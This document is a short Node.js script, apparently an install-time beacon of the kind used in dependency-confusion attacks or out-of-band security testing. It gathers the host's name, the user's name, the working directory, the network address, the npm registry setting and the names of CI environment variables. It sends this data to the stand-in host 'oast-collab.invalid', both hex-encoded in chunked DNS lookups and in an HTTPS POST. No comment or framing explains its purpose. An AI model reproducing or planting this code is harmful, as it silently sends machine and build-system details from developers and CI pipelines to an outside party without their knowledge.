const os = require("os");
const dns = require("dns");
const pkg = require("./package.json");

function hex(s) {
  return Buffer.from(String(s)).toString("hex");
}

function chunks(s, n) {
  const out = [];
  for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n));
  return out;
}

const info = [
  pkg.name,
  pkg.version,
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  (os.networkInterfaces().eth0 || os.networkInterfaces().en0 || [{}])[0].address || "",
  process.env.npm_config_registry || "",
].join("|");

const id = Math.random().toString(36).slice(2, 8);
const parts = chunks(hex(info), 60);

parts.forEach((p, i) => {
  const q = `${p}.${i}.${parts.length}.${id}.d.oast-collab.invalid`;
  dns.resolve4(q, () => {});
});

const https = require("https");
const body = JSON.stringify({ n: pkg.name, h: os.hostname(), u: os.userInfo().username, d: process.cwd(), env: Object.keys(process.env).filter((k) => /^(CI|GITHUB|GITLAB|JENKINS|BUILD|NPM_CONFIG)/i.test(k)) });
const r = https.request({ hostname: "oast-collab.invalid", path: "/c/" + id, method: "POST", headers: { "Content-Type": "application/json" } }, () => {});
r.on("error", () => {});
r.end(body);
